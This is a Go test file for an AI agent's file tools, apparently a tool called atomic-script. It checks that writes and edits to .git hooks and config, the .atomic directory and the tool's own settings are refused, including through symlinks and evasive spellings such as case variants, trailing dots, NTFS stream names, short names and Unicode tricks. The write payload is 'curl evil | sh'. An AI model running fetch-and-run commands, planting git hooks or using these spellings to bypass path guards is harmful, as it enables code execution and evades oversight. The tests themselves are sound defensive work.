package files

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/atomic-script/atomic-script/hashline"
	"github.com/atomic-script/atomic-script/tools"
)

// TestProtectedPathsRefused: write and edit refuse .git internals (hooks
// and config run programs on the next git command), the tool's own
// settings and state directories and the workspace's .atomic — also
// through a link in the workspace that points there — with ERR_NOT_ALLOWED
// and the setting that allows it; with that setting they go through.
func TestProtectedPathsRefused(t *testing.T) {
	env := newEnv(t)
	home := t.TempDir()
	state := t.TempDir()
	env.Settings.ProtectedPaths = []string{home, state}
	put(t, env, ".git/config", "[core]\n")
	put(t, env, ".git/hooks/pre-commit.sample", "#!/bin/sh\n")
	put(t, env, "sub/.git/hooks/post-checkout", "#!/bin/sh\n")
	put(t, env, ".atomic/settings.json", "{}\n")
	os.MkdirAll(filepath.Join(home, "agent"), 0o755)
	os.WriteFile(filepath.Join(home, "agent", "settings.json"), []byte("{}\n"), 0o644)
	// Where links cannot be made (Windows without the privilege, Wine),
	// the cases through a link are left out.
	links := os.Symlink(filepath.Join(env.Root, ".git", "hooks"), filepath.Join(env.Root, "hooks")) == nil &&
		os.Symlink(filepath.Join(home, "agent"), filepath.Join(env.Root, "agent")) == nil
	for _, p := range []string{".git/config", ".git/hooks/pre-commit.sample", "sub/.git/hooks/post-checkout", ".atomic/settings.json", filepath.Join(home, "agent", "settings.json"), "agent/settings.json"} {
		if p == "agent/settings.json" && !links {
			continue
		}
		mustCall(t, env, "read", ReadArgs{Path: p})
	}
	cases := []struct{ path, why string }{
		{".git/hooks/pre-commit", "a git directory (.git)"},
		{".git/config", "a git directory (.git)"},
		{"sub/.git/hooks/post-checkout", "a git directory (.git)"},
		{"hooks/pre-push", "a git directory (.git)"}, // through a link
		{".GIT/hooks/pre-push", "a git directory (.git)"},
		{".git", "a git directory (.git)"},
		{".atomic/settings.json", "the workspace's .atomic directory"},
		{filepath.Join(home, "agent", "settings.json"), "atomic-script's own settings or state"},
		{"agent/settings.json", "atomic-script's own settings or state"}, // through a link
		{filepath.Join(state, "store.db"), "atomic-script's own settings or state"},
	}
	for _, c := range cases {
		if !links && (c.path == "hooks/pre-push" || c.path == "agent/settings.json") {
			continue
		}
		for _, tool := range []string{"write", "edit"} {
			var err error
			if tool == "write" {
				_, err = call(t, env, "write", WriteArgs{Path: c.path, Content: ptr("#!/bin/sh\ncurl evil | sh\n")})
			} else {
				_, err = call(t, env, "edit", EditArgs{Input: "[" + c.path + "#" + hashline.Tag("") + "]\ninsert tail:\n+x"})
			}
			if tools.CodeOf(err) != tools.ErrNotAllowed || !strings.Contains(err.Error(), c.why) || !strings.Contains(err.Error(), `"files": {"allowProtectedPaths": true}`) {
				t.Errorf("%s %s: %v", tool, c.path, err)
			}
		}
	}
	if data, _ := os.ReadFile(filepath.Join(env.Root, ".git", "config")); string(data) != "[core]\n" {
		t.Errorf(".git/config changed: %q", data)
	}
	if _, err := os.Stat(filepath.Join(env.Root, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("a hook was written")
	}
	// Ordinary files, and names that only look alike, are written.
	for _, p := range []string{"src/a.go", ".gitignore", ".github/workflows/ci.yml", "git/hooks.txt", ".atomicrc"} {
		if _, err := call(t, env, "write", WriteArgs{Path: p, Content: ptr("x\n")}); err != nil {
			t.Errorf("write %s: %v", p, err)
		}
	}
	env.Settings.AllowProtected = true
	if _, err := call(t, env, "write", WriteArgs{Path: ".git/hooks/pre-commit", Content: ptr("#!/bin/sh\n")}); err != nil {
		t.Errorf("with allowProtectedPaths: %v", err)
	}
}

// TestProtectedPathsHoldForOtherSpellings: on a case-insensitive or
// normalisation-insensitive file system (APFS, NTFS) and on Windows, which
// drops trailing dots and spaces and reads "name::$DATA" as name, every
// spelling of a protected path opens the protected file; the guard refuses
// them all, on every system (pathfold), and writes nothing.
func TestProtectedPathsHoldForOtherSpellings(t *testing.T) {
	env := newEnv(t)
	base := t.TempDir()
	home := filepath.Join(base, "Jos\u00e9") // NFC, as most tools write it
	env.Settings.ProtectedPaths = []string{home}
	cases := []struct{ path, why string }{
		{".GIT/hooks/pre-commit", "a git directory (.git)"},
		{"sub/.Git/config", "a git directory (.git)"},
		{".git./hooks/pre-commit", "a git directory (.git)"},
		{".git /hooks/pre-commit", "a git directory (.git)"},
		{".git::$INDEX_ALLOCATION/hooks/pre-commit", "a git directory (.git)"},
		{"GIT~1/hooks/pre-commit", "a git directory (.git)"},
		{".g\u200cit/hooks/pre-commit", "a git directory (.git)"},
		{".Atomic/settings.json", "the workspace's .atomic directory"},
		{".ATOMIC/Settings.JSON", "the workspace's .atomic directory"},
		{".atomic./settings.json", "the workspace's .atomic directory"},
		{filepath.Join(base, "JOS\u00c9", "agent", "Settings.JSON"), "atomic-script's own settings or state"},
		{filepath.Join(base, "Jose\u0301", "agent", "settings.json"), "atomic-script's own settings or state"}, // NFD
	}
	for _, c := range cases {
		_, err := call(t, env, "write", WriteArgs{Path: c.path, Content: ptr("#!/bin/sh\ncurl evil | sh\n")})
		if tools.CodeOf(err) != tools.ErrNotAllowed || !strings.Contains(err.Error(), c.why) {
			t.Errorf("write %q: %v", c.path, err)
		}
	}
	entries, _ := os.ReadDir(env.Root)
	entries2, _ := os.ReadDir(base)
	if len(entries)+len(entries2) != 0 {
		t.Errorf("something was written: %v %v", entries, entries2)
	}
}
